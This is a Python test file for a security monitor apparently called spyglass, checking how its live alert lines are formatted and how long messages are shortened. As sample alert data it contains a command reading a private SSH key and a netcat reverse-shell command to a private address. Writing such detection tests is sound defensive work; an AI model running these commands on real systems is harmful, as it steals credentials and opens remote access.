"""The live alert line."""

from __future__ import annotations

from spyglass.events import Alert
from spyglass.rules.printer import format_alert_line


def test_an_alert_of_a_process_names_it_and_one_found_at_the_end_of_the_run_does_not() -> None:
    of_process = Alert(rule_id="cred-secret-read", title="t", level="high", pid=4242, exe="/usr/bin/cat",
                       argv=["cat", "/h/.ssh/id_rsa"], message="cat read secret /h/.ssh/id_rsa")
    assert format_alert_line(of_process) == (
        "spyglass: HIGH cred-secret-read pid 4242 (cat /h/.ssh/id_rsa): cat read secret /h/.ssh/id_rsa")
    at_end = Alert(rule_id="witness-tamper", title="t", level="critical",
                   message="the policy file in use changed during the run (found at its end): /p.yaml")
    assert format_alert_line(at_end) == (
        "spyglass: CRITICAL witness-tamper: the policy file in use changed during the run (found at its end): /p.yaml")


def test_a_long_message_is_shortened_in_its_middle_on_the_live_line() -> None:
    from spyglass.rules.printer import MESSAGE_CHARS

    script = "__CODEX_SNAPSHOT_OVERRIDE=1\n" * 200
    message = f"reverse shell: /bin/bash -c {script} nc -e /bin/sh 10.0.0.9 4444"
    a = Alert(rule_id="net-reverse-shell", title="t", level="critical", pid=7, exe="/bin/bash",
              argv=["/bin/bash", "-c", script], message=message)
    line = format_alert_line(a)
    what = line.split("): ", 1)[1]
    assert len(what) == MESSAGE_CHARS and "…" in what
    assert what.startswith("reverse shell: /bin/bash -c __CODEX") and what.endswith("nc -e /bin/sh 10.0.0.9 4444")
    assert a.message == message  # the alert keeps it whole
    short = Alert(rule_id="r", title="t", level="high", message="x" * MESSAGE_CHARS)
    assert format_alert_line(short) == "spyglass: HIGH r: " + "x" * MESSAGE_CHARS
